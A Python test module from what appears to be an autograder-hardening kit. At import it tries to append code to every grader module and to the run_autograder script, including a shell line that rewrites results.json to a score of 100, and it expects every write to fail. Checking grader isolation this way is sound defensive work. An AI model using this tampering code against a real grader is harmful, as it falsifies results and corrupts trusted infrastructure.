"""[attnkit-tamper] edit_grader -- family (b), code of the trusted side rewritten.

Append to a stub. At import, append a line of Python to every module of the grader it can find (where
the grading processes' command lines point, an editable install's finder, ATTACK's kit), so that the
trusted process, importing one after grading, would run it; and append a line to run_autograder (bash
reads it as it runs) that would rewrite results.json. Expected: none of these files can be written (root
owns them, the kit is private to root in a container, and learner code opens files to read only); the
stub gets its 0 points and the feedback never says EDITED.

Needs the prelude grader_places.
"""


def _atk_edit():
    import glob
    import os

    targets = []
    for place in _atk_places():
        for root in {place, os.path.dirname(place)} - {"/", ""}:
            targets += glob.glob(os.path.join(root, "**", "grader", "*.py"), recursive=True)[:40]
            targets += glob.glob(os.path.join(root, "run_autograder"))
    edited = []
    for path in dict.fromkeys(targets):
        line = ("\necho '{\"score\": 100}' > \"$ROOT/results/results.json\"\n" if path.endswith("run_autograder")
                else "\nimport builtins; builtins.ATTNKIT_PWNED = True\n")
        try:
            with open(path, "a") as handle:
                handle.write(line)
            edited.append(path)
        except OSError:
            pass
    if edited:
        raise RuntimeError(f"EDITED {edited[:3]}")


_atk_edit()
